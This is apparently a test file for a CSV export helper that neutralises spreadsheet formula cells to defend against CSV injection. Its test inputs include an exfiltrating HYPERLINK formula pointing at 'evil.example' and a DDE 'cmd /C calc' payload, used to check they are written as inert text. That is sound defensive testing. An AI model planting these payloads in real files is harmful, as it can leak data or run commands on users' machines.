import { csvRecords } from './csv';
import { csvLineForSpreadsheet, neutraliseFormula } from './formula-cells';

describe('cells a spreadsheet could run as a formula (CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example?"&A1,"Click")', '\'=HYPERLINK("http://evil.example?"&A1,"Click")'],
    ['=cmd|\' /C calc\'!A0', '\'=cmd|\' /C calc\'!A0'],
    ['+44 20 7946 0000', '\'+44 20 7946 0000'],
    ['-2+3', '\'-2+3'],
    ['@SUM(1,1)', '\'@SUM(1,1)'],
    ['\t=1+1', '\'\t=1+1'],
    ['\r=1+1', '\'\r=1+1'],
  ])('%j is written as text', (value, written) => {
    expect(neutraliseFormula(value)).toBe(written);
  });

  it.each(['Asha Patel', 'O\'Brien', '2026-05-19', 'LEG-1-00001', '', ' =1+1', 'a=b', '100', 'Smith-Jones'])('%j is left as it is', (value) => {
    expect(neutraliseFormula(value)).toBe(value);
  });

  it('writes a line that reads back (RFC 4180) with each formula neutralised and numbers kept', async () => {
    const line = csvLineForSpreadsheet(['=1+1', 'Patel, Asha', 'said "no"', 'two\nlines', -3, null, undefined, '@x']);
    expect(line).toBe('\'=1+1,"Patel, Asha","said ""no""","two\nlines",-3,,,\'@x');
    const rows = [];
    for await (const r of csvRecords(`a,b,c,d,e,f,g,h\n${line}\n`)) rows.push(r.values);
    expect(rows).toEqual([{ a: '\'=1+1', b: 'Patel, Asha', c: 'said "no"', d: 'two\nlines', e: '-3', f: '', g: '', h: '\'@x' }]);
  });
});
